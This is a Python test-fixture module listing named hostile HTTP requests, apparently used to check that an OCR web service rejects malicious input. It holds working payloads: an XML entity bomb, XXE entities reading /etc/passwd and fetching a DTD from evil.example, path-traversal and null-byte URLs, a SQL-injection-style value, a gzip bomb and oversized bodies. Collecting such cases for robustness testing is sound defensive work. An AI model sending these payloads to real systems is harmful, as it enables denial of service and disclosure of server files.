# SPDX-License-Identifier: Apache-2.0
"""Requests that nobody sends in good faith, by name: a list that the tests and deploy/hostile.py go through."""

from __future__ import annotations

import base64
import gzip
import json
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass, field
from itertools import chain

from tests.models import line_png
from tests.service.hostile_archives import ARCHIVES
from tests.service.hostile_images import IMAGES, ODD

BOUNDARY = "xyz"
FORM = f"multipart/form-data; boundary={BOUNDARY}"


@dataclass(frozen=True)
class Hostile:
    """A request.

    Attributes:
        path: with its query.
        body: makes it.
        media_type: of the body.
        headers: others.
        method: of HTTP.
        read: whether 200 is an answer too: odd, but an image, or an archive whose bad members are reported.
    """

    path: str
    body: Callable[[], bytes]
    media_type: str = "image/png"
    headers: Mapping[str, str] = field(default_factory=dict)
    method: str = "POST"
    read: bool = False


def part(data: bytes, disposition: str = 'form-data; name="files"; filename="a.png"', more: str = "") -> bytes:
    """Of a form."""
    return f"--{BOUNDARY}\r\ncontent-disposition: {disposition}\r\n{more}\r\n".encode() + data + b"\r\n"


END = f"--{BOUNDARY}--\r\n".encode()

_XML = '<?xml version="1.0"?>'
_LAUGHS = "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10))
_PAGE = "http://schema.primaresearch.org/PAGE/gts/pagecontent/2019-07-15"

REGIONS: Mapping[str, Callable[[], bytes]] = {
    "regions empty": lambda: b"",
    "regions a billion laughs": lambda: f'{_XML}<!DOCTYPE a [<!ENTITY a0 "ha">{_LAUGHS}]><a>&a9;</a>'.encode(),
    "regions entity of a file": lambda: (
        f'{_XML}<!DOCTYPE a [<!ENTITY f SYSTEM "file:///etc/passwd">]><alto>&f;</alto>'.encode()
    ),
    "regions entity of the network": lambda: f'{_XML}<!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><alto/>'.encode(),
    "regions 50000 deep": lambda: b"<a>" * 50_000,
    "regions cut off": lambda: f'{_XML}<PcGts xmlns="{_PAGE}"><Page>'.encode(),
    "regions in utf-7": lambda: b'<?xml version="1.0" encoding="utf-7"?><alto/>',
    "regions in utf-16 cut off": lambda: "<alto/>".encode("utf-16")[:-1],
    "regions 50000 brackets": lambda: b"[" * 50_000,
    "regions that are no numbers": lambda: b'{"lines": [{"box": [NaN, Infinity, 1e308, -1e308]}]}',
    "regions of long numbers": lambda: b'{"lines": [{"box": [' + b"9" * 5000 + b", 0, 1, 1]}]}",
    "regions 100000 boxes": lambda: json.dumps({"lines": [{"box": [0, 0, 300, 40]}] * 100_000}).encode(),
    "regions 100000 points": lambda: (
        f'{_XML}<PcGts xmlns="{_PAGE}"><Page imageWidth="300" imageHeight="40" imageFilename="a">'
        f'<TextRegion id="r"><Coords points="0,0 9,9 9,0"/><TextLine id="l"><Coords points="{"0,0 300,40 " * 50_000}"/>'
        "</TextLine></TextRegion></Page></PcGts>"
    ).encode(),
    "regions named twice": lambda: b'{"lines": [], "lines": {}}',
    "regions of bytes": lambda: bytes(range(256)) * 10,
}

ODD_REGIONS: Mapping[str, Callable[[], bytes]] = {
    "regions of no lines": lambda: b'{"lines": []}',
    "regions outside the page": lambda: b'{"lines": [{"box": [-5, -5, 99999999, 99999999]}]}',
}


def _page(regions: bytes) -> bytes:
    image = part(line_png(1), 'form-data; name="image"; filename="p.png"')
    return image + part(regions, 'form-data; name="regions"; filename="r.xml"') + END


def _infer(**changed: object) -> Callable[[], bytes]:
    tensor = {"name": "image", "datatype": "BYTES", "shape": [1], "data": [base64.b64encode(line_png(1)).decode()]}
    return lambda: json.dumps({"inputs": [tensor | changed]}).encode()


INFER: Mapping[str, Callable[[], bytes]] = {
    "infer nothing": lambda: b"",
    "infer no json": lambda: b"{",
    "infer a list": lambda: b"[]",
    "infer 50000 brackets": lambda: b"[" * 50_000,
    "infer 5 million lists": lambda: b'{"inputs": [' + b"[]," * 1_700_000 + b"[]]}",
    "infer no inputs": lambda: b'{"inputs": []}',
    "infer a number of 5000 digits": lambda: b'{"inputs": [{"name": "image", "shape": [' + b"9" * 5000 + b"]}]}",
    "infer shape of 1e12": _infer(shape=[10**12]),
    "infer shape negative": _infer(shape=[-1]),
    "infer shape of 1000 dimensions": _infer(shape=[1] * 1000),
    "infer other datatype": _infer(datatype="FP32"),
    "infer other name": _infer(name="pixels"),
    "infer no base64": _infer(data=["%%%"]),
    "infer numbers": _infer(data=[1, 2, 3]),
    "infer a million images": _infer(shape=[200_000], data=[""] * 200_000),
    "infer empty image": _infer(data=[""]),
    "infer lone surrogate": lambda: b'{"inputs": [{"name": "\\ud800", "datatype": "BYTES", "shape": [1]}]}',
}


def _named(
    prefix: str, bodies: Mapping[str, Callable[[], bytes]], path: str, media_type: str, read: bool = False
) -> dict[str, Hostile]:
    return {prefix + name: Hostile(path, body, media_type, read=read) for name, body in bodies.items()}


def _pages(documents: Mapping[str, Callable[[], bytes]], read: bool = False) -> dict[str, Hostile]:
    bodies = {name: (lambda made=made: _page(made())) for name, made in documents.items()}
    return _named("", bodies, "/v1/pages", FORM, read)


def _form(*parts: bytes, end: bytes = END) -> Callable[[], bytes]:
    return lambda: b"".join(parts) + end


FORMS: Mapping[str, Hostile] = {
    "form empty": Hostile("/v1/recognize", lambda: b"", FORM),
    "form end only": Hostile("/v1/recognize", lambda: END, FORM),
    "form without boundary": Hostile("/v1/recognize", _form(part(b"x")), "multipart/form-data"),
    "form of another boundary": Hostile("/v1/recognize", _form(part(b"x")), "multipart/form-data; boundary=abc"),
    "form boundary of 5000 letters": Hostile(
        "/v1/recognize", _form(part(b"x")), "multipart/form-data; boundary=" + "a" * 5000
    ),
    "form cut off": Hostile("/v1/recognize", _form(part(line_png(1)), end=b""), FORM),
    "form of 5000 files": Hostile("/v1/recognize", lambda: part(b"x") * 5000 + END, FORM),
    "form of 5000 texts": Hostile("/v1/recognize", lambda: part(b"x", 'form-data; name="a"') * 5000 + END, FORM),
    "form part without name": Hostile("/v1/recognize", _form(part(b"x", "form-data")), FORM),
    "form part that is a text": Hostile("/v1/recognize", _form(part(b"x", 'form-data; name="files"')), FORM),
    "form field unknown": Hostile("/v1/recognize", _form(part(b"x", 'form-data; name="evil"; filename="a"')), FORM),
    "form text of 5 MB": Hostile(
        "/v1/recognize", lambda: part(b"x" * 5_000_000, 'form-data; name="files"') + END, FORM
    ),
    "form header of 1 MB": Hostile(
        "/v1/recognize", lambda: part(b"x", more="x-a: " + "b" * 1_000_000 + "\r\n") + END, FORM
    ),
    "form 10000 headers": Hostile("/v1/recognize", lambda: part(b"x", more="x-a: b\r\n" * 10_000) + END, FORM),
    "form file name climbs": Hostile(
        "/v1/recognize", _form(part(b"x", 'form-data; name="files"; filename="../../a"')), FORM
    ),
    "form in form": Hostile("/v1/recognize", _form(part(part(b"x") + END, more=f"content-type: {FORM}\r\n")), FORM),
    "form of bare newlines": Hostile("/v1/recognize", lambda: b"--xyz\n\nabc\n--xyz--", FORM),
    "form of 100000 dashes": Hostile("/v1/recognize", lambda: b"--xyz\r\n" + b"-" * 100_000, FORM),
}

ASKED: Mapping[str, Hostile] = {
    "beam of a billion": Hostile("/v1/recognize?beam=1000000000", lambda: line_png(1)),
    "beam that is no number": Hostile("/v1/recognize?beam=1e3", lambda: line_png(1)),
    "model that climbs": Hostile("/v1/recognize?model=../../../etc", lambda: line_png(1)),
    "model with a zero": Hostile("/v1/recognize?model=tiny%00", lambda: line_png(1)),
    "model of 50000 letters": Hostile("/v1/recognize?model=" + "a" * 50_000, lambda: line_png(1)),
    "model that is no text": Hostile("/v1/recognize?model=%ff%fe", lambda: line_png(1)),
    "reading that does not exist": Hostile("/v1/recognize?reading=%27%3B%20drop%20table", lambda: line_png(1)),
    "format that does not exist": Hostile("/v1/recognize?format=exe", lambda: line_png(1)),
    "deadline of nothing": Hostile("/v1/recognize?deadline_ms=0", lambda: line_png(1)),
    "deadline of 5000 digits": Hostile("/v1/recognize?deadline_ms=" + "9" * 5000, lambda: line_png(1)),
    "priority that does not exist": Hostile("/v1/recognize?priority=root", lambda: line_png(1)),
    "media type unknown": Hostile("/v1/recognize", lambda: line_png(1), "application/x-httpd-php"),
    "media type of 20000 letters": Hostile("/v1/recognize", lambda: line_png(1), "a" * 20_000),
    "media type none": Hostile("/v1/recognize", lambda: line_png(1), ""),
    "body in gzip": Hostile("/v1/recognize", lambda: gzip.compress(bytes(10**7)), headers={"content-encoding": "gzip"}),
    "job that climbs": Hostile("/v1/jobs/..%2f..%2fetc%2fpasswd", lambda: b"", method="GET"),
    "job of 50000 letters": Hostile("/v1/jobs/" + "a" * 50_000, lambda: b"", method="GET"),
    "static that climbs": Hostile("/static/%2e%2e/app.py", lambda: b"", method="GET"),
    "static that climbs deep": Hostile("/static/..%2f..%2f..%2f..%2fetc%2fpasswd", lambda: b"", method="GET"),
    "static with a zero": Hostile("/static/page.css%00.js", lambda: b"", method="GET"),
    "alias to nowhere": Hostile("/v1/aliases/a", lambda: b'{"target": "../../etc"}', "application/json", method="PUT"),
    "alias 50000 deep": Hostile("/v1/aliases/a", lambda: b"[" * 50_000, "application/json", method="PUT"),
    "alias of 10 MB": Hostile("/v1/aliases/a", lambda: b"[" * 10_000_000, "application/json", method="PUT"),
    "alias in no encoding": Hostile("/v1/aliases/a", lambda: b"\xff\xfe{}", "application/json", method="PUT"),
    "load of what is not there": Hostile("/v1/models/..%2f..%2fetc/passwd/load", lambda: b""),
    "infer header beyond the body": Hostile(
        "/v2/models/tiny/infer", _infer(), "application/json", {"inference-header-content-length": "99999999"}
    ),
    "infer header negative": Hostile(
        "/v2/models/tiny/infer", _infer(), "application/json", {"inference-header-content-length": "-5"}
    ),
    "method that does not exist": Hostile("/v1/recognize", lambda: b"", method="BREW"),
    "method to trace": Hostile("/v1/recognize", lambda: b"", method="TRACE"),
}

ALL: Mapping[str, Hostile] = dict(
    chain.from_iterable(
        table.items()
        for table in (
            _named("", IMAGES, "/v1/recognize", "image/png"),
            _named("", ODD, "/v1/recognize", "image/png", read=True),
            _named("", ARCHIVES, "/v1/recognize", "application/zip", read=True),
            _named("measured ", ARCHIVES, "/v1/measure", "application/zip"),
            _pages(REGIONS),
            _pages(ODD_REGIONS, read=True),
            _named("", INFER, "/v2/models/tiny/infer", "application/json", read=True),
            FORMS,
            ASKED,
        )
    )
)
"""Everything, by name."""


def names(some: Sequence[str] = ()) -> list[str]:
    """Of those whose names contain one of some words, or of all."""
    return [name for name in ALL if not some or any(word in name for word in some)]
